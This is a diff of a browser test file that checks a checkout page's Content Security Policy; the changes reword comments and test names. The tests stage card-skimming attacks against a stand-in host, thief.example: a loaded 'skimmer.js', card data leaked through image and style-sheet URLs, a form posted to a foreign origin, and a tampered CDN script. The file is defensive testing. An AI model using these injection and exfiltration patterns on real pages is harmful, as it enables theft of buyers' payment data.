@@ -12,20 +12,20 @@ import { type CheckoutPage, openCheckout } from '../support/browser/checkout-pag
 
 const thief = 'https://thief.example'
 
-/** What the page does to the world when an attacker has got this far: a script that runs inside it. */
+/** An attack by a script inside the page. */
 interface Attack {
   readonly directive: string
-  /** Runs in the page, with the address of the thief. */
+  /** Runs in the page. `thief` is the attacker's origin. */
   readonly run: (thief: string) => unknown
 }
 
-/** Lets the attacks happen, and answers with the directive that stopped each. */
+/** Runs the attacks. Returns the directive that stopped each. */
 async function directivesAgainst(
   checkout: CheckoutPage,
   attacks: Readonly<Record<string, Attack>>,
 ): Promise<Record<string, string>> {
   const { page } = checkout
-  // The browser says it in its own words too; what counts is the event, which names the directive.
+  // The browser logs violations too, but only the event names the directive.
   checkout.expectConsole('error', /Content Security Policy|^The policy of the page/)
   const stoppedBy: Record<string, string> = {}
   for (const [story, attack] of Object.entries(attacks)) {
@@ -90,7 +90,7 @@ const intrusions: Readonly<Record<string, Attack>> = {
       document.body.append(Object.assign(document.createElement('script'), { src }))
     },
   },
-  'a module of a stranger': {
+  'a module of another origin': {
     directive: 'script-src-elem',
     run: (stranger) => {
       const src = `${stranger}/skimmer.js`
@@ -102,7 +102,7 @@ const intrusions: Readonly<Record<string, Attack>> = {
     run: (stranger) =>
       document.head.append(Object.assign(document.createElement('base'), { href: stranger })),
   },
-  'a frame with somebody else’s form': {
+  'a frame with a foreign form': {
     directive: 'frame-src',
     run: (stranger) =>
       document.body.append(Object.assign(document.createElement('iframe'), { src: stranger })),
@@ -111,7 +111,7 @@ const intrusions: Readonly<Record<string, Attack>> = {
     directive: 'worker-src',
     run: () => new Worker(URL.createObjectURL(new Blob(['']))),
   },
-  'a form to a stranger': {
+  'a form to another origin': {
     directive: 'form-action',
     run: (stranger) => {
       const form = Object.assign(document.createElement('form'), { action: stranger })
@@ -121,7 +121,7 @@ const intrusions: Readonly<Record<string, Attack>> = {
   },
 }
 
-test('G2: a script, handler or frame that was injected is stopped by the policy', async () => {
+test('G2: the policy blocks an injected script, handler or frame', async () => {
   const checkout = await openCheckout('/card')
   await checkout.seesTabs()
   expect(await directivesAgainst(checkout, intrusions)).toEqual(expected(intrusions))
@@ -141,7 +141,7 @@ const leaks: Readonly<Record<string, Attack>> = {
       document.body.style.backgroundImage = `url(${stranger}/?card=4242)`
     },
   },
-  'a style sheet of a stranger': {
+  'a style sheet of another origin': {
     directive: 'style-src-elem',
     run: (stranger) => {
       const href = `${stranger}/?card=4242`
@@ -180,13 +180,13 @@ const leaks: Readonly<Record<string, Attack>> = {
   },
 }
 
-test('G4, G5: nothing that is read here leaves by an image, a style, a font or a call to a third origin', async () => {
+test('G4, G5: the policy blocks data leaks by image, style, font or a call to a third origin', async () => {
   const checkout = await openCheckout('/card')
   await checkout.seesTabs()
   expect(await directivesAgainst(checkout, leaks)).toEqual(expected(leaks))
 })
 
-test('G1, G16: another site gets nothing of a page or of its wallet button into a frame', async () => {
+test('G1, G16: another site cannot frame a page or its wallet button', async () => {
   const { page, origin, expectConsole } = await openCheckout('/')
   expectConsole('error', "frame-ancestors 'none'")
   const attacker = await servePage(`<iframe src="${origin}/card"></iframe><p>Win a prize</p>`)
@@ -197,14 +197,14 @@ test('G1, G16: another site gets nothing of a page or of its wallet button into 
   await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/')
 })
 
-/** A site of somebody else. A real one on this machine: browsers keep pages of the web away from it altogether. */
+/** Serves another origin on this machine, because browsers block web pages from local addresses. */
 async function servePage(html: string): Promise<string> {
   return serve((_request, response) =>
     response.writeHead(200, { 'content-type': 'text/html' }).end(html),
   )
 }
 
-/** Answers requests, and takes every socket. */
+/** Answers requests, and accepts every socket. */
 async function serve(answer: RequestListener): Promise<string> {
   const sockets = new webSocket.Server({ noServer: true })
   const server = createServer(answer).on('upgrade', (request, socket, head) =>
@@ -215,7 +215,7 @@ async function serve(answer: RequestListener): Promise<string> {
   return origin
 }
 
-test('a hub on an origin of its own may be asked, over HTTP and over a socket, and nobody beside it', async () => {
+test('the policy allows a hub on another origin over HTTP and WebSocket, and no other origin', async () => {
   const answer: RequestListener = (_request, response) =>
     response.writeHead(200, { 'access-control-allow-origin': '*' }).end()
   const hub = await serve(answer)
@@ -248,7 +248,7 @@ test('a hub on an origin of its own may be asked, over HTTP and over a socket, a
   expect(await ask(neighbour)).toEqual(['refused', 'refused'])
 })
 
-test('G3: a message of any shape from another window changes nothing, for nobody listens', async () => {
+test('G3: the page ignores messages from other windows', async () => {
   const { page, seesTabs } = await openCheckout('/card', {
     beforeLoad: (fresh) =>
       fresh.addInitScript(() => {
@@ -276,7 +276,7 @@ test('G3: a message of any shape from another window changes nothing, for nobody
   expect(await heard()).toEqual([['message'], null])
 })
 
-test('G12: the page needs no header of the shop’s answers, which the CDN adds none to', async () => {
+test('G12: the page needs no headers on the shop’s answers, and the CDN adds none', async () => {
   const { page, seesTabs, origin } = await openCheckout('/card')
   await seesTabs()
   const names = await page.evaluate(async () => {
@@ -288,7 +288,7 @@ test('G12: the page needs no header of the shop’s answers, which the CDN adds 
   expect((await fetch(`${origin}/card`)).headers.get('x-content-type-options')).toBe('nosniff')
 })
 
-test('G13: whoever is asked beside us learns our origin, never the address with the payment intent', async () => {
+test('G13: other origins receive the page’s origin as referrer, never the address with the payment intent', async () => {
   const { page, calls, origin } = await openCheckout(
     '/card?payment_intent=pi_1&secret=pi_1_secret_2',
   )
@@ -297,7 +297,7 @@ test('G13: whoever is asked beside us learns our origin, never the address with 
   expect(referrers).toEqual([`${origin}/`])
 })
 
-test('G15: the console tells the owner that a payment failed, and nothing of what the buyer typed', async () => {
+test('G15: the console reports a failed payment without the buyer’s data', async () => {
   const checkout = await openCheckout('/card')
   checkout.expectConsole('error', 'status of 402')
   checkout.expectConsole('error', 'the payment got no good answer')
@@ -318,7 +318,7 @@ test('G15: the console tells the owner that a payment failed, and nothing of wha
   expect(text.replace(/\D/g, '')).not.toContain(declinedCard.replace(/\D/g, ''))
 })
 
-test('a script that is not the one that was built is not run, and the page says that a part is missing', async () => {
+test('a changed script is blocked, and the page says that a part is missing', async () => {
   const built = await readFile(join(inject('dist'), 'scripts.json'), 'utf8')
   const main = /\/assets\/main\.\w+\.js/.exec(built)?.[0] ?? ''
   const checkout = await openCheckout('/card', { beforeLoad: (page) => tamperWith(page, main) })
@@ -327,7 +327,7 @@ test('a script that is not the one that was built is not run, and the page says 
   expect(await isTaken(checkout.page)).toBe(false)
 })
 
-test('a part that is loaded later is not run either when it is not what was built', async () => {
+test('a changed lazy chunk is blocked, too', async () => {
   const built = await readFile(join(inject('dist'), 'scripts.json'), 'utf8')
   const tab = /\/assets\/card-tab\.\w+\.js/.exec(built)?.[0] ?? ''
   const checkout = await openCheckout('/card', { beforeLoad: (page) => tamperWith(page, tab) })
@@ -339,10 +339,10 @@ test('a part that is loaded later is not run either when it is not what was buil
   expect(await isTaken(page)).toBe(false)
 })
 
-/** A CDN, or who has got hold of it, that adds a line to a script. */
+/** Imitates a compromised CDN that adds a line to a script. */
 async function tamperWith(page: Page, address: string): Promise<void> {
   const script = await readFile(join(inject('dist'), address), 'utf8')
-  // With any query: what was lost is asked for again under another address.
+  // With any query, because a retry adds one.
   await page.route(`**${address}*`, (route) =>
     route.fulfill({
       contentType: 'application/javascript',
@@ -351,7 +351,7 @@ async function tamperWith(page: Page, address: string): Promise<void> {
   )
 }
 
-test('an inline script that is not the one that was built is not run: the app does its work without it', async () => {
+test('a changed inline script is blocked, and the app works without it', async () => {
   const checkout = await openCheckout('/card', {
     beforeLoad: (page) =>
       page.route(/^http:\/\/127[^/]*\/card$/, async (route) => {
